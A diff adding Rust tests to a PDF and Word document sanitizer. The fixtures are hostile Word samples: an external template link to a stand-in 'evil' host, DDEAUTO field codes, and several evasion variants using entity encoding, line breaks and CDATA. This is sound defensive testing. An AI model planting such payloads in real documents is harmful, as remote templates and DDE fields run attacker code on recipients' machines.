@@ -176,6 +176,20 @@ fn a_document_that_does_something_is_refused() {
     assert_eq!(clean(b"%PDF-1.7\nnothing".to_vec()), Err(Refusal::Broken));
 }
 
+/// However many properties are named, and whatever stands open, each byte is looked at a few times and no more.
+#[test]
+fn a_document_of_many_properties_takes_no_time() {
+    let many = |each: &dyn Fn(usize) -> String| (1..60_000).map(each).collect::<String>().into_bytes();
+    let named = many(&|n| format!("{n} 0 obj (Secret)\n/Info {n} 0 R\n"));
+    let chained = many(&|n| format!("{n} 0 obj << /A {} 0 R >>\n", n + 1));
+    let pictures = many(&|_| "stream\n\u{ff}".to_owned());
+    let began = std::time::Instant::now();
+    assert_eq!(clean(pdf(&named)), Err(Refusal::Metadata));
+    let _ = clean(pdf(&[INFO, &chained].concat()));
+    let _ = clean(pdf(&[INFO, &pictures].concat()));
+    assert!(began.elapsed().as_secs() < 20, "{:?}", began.elapsed());
+}
+
 #[test]
 fn a_document_loses_what_it_says_of_itself() {
     let account = b"<?xpacket begin='' id=''?><x:xmpmeta>Secret</x:xmpmeta><?xpacket end='w'?>";
@@ -217,6 +231,8 @@ fn a_word_document_that_does_something_is_refused() {
     let outside = "<Relationships><Relationship Id=\"r\" Type=\"http://x/attachedTemplate\" Target=\"http://evil/t.dotm\" TargetMode=\"External\"/></Relationships>";
     let hidden = outside.replace("External", "&#69;xternal");
     let other = outside.replace("<Relationship ", "<r:Relationship ");
+    let in_lines = outside.replace("<Relationship ", "<Relationship\n\t");
+    let quoted = outside.replace("t.dotm", "t.dotm?>");
     let types =
         "<Types>application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml macroEnabled</Types>";
     for ((name, content), refused) in [
@@ -232,6 +248,14 @@ fn a_word_document_that_does_something_is_refused() {
             ("word/document.xml", b"<w:instrText> DDE</w:instrText><w:instrText>AUTO c:\\\\x </w:instrText>"),
             Refusal::Active,
         ),
+        (("word/_rels/settings.xml.rels", in_lines.as_bytes()), Refusal::Active),
+        (("word/_rels/settings.xml.rels", quoted.as_bytes()), Refusal::Active),
+        (("word/_rels/settings.xml.rels", b"<Relationships><Relationship"), Refusal::Broken),
+        (("word/document.xml", b"<w:fldSimple w:instr=\"DDEAUTO c:\\x\"/>"), Refusal::Active),
+        (("word/document.xml", b"<w:instrText><![CDATA[DDE]]></w:instrText>"), Refusal::Active),
+        (("word/document.xml", b"<w:instrText>D&#68;E</w:instrText>"), Refusal::Hidden),
+        (("word/document.xml", b"<w:del\nw:author=\"Secret\">She lied.</w:del>"), Refusal::Metadata),
+        (("word/media/image1.tif", b"II*"), Refusal::Active),
         (("word/document.xml", b"<!DOCTYPE a [<!ENTITY b 'c'>]><a/>"), Refusal::Hidden),
         (("word/document.xml", b"\xff\xfe<\0a\0"), Refusal::Hidden),
         (("word/document.xml", b"<w:del w:author=\"Secret\">She lied.</w:del>"), Refusal::Metadata),
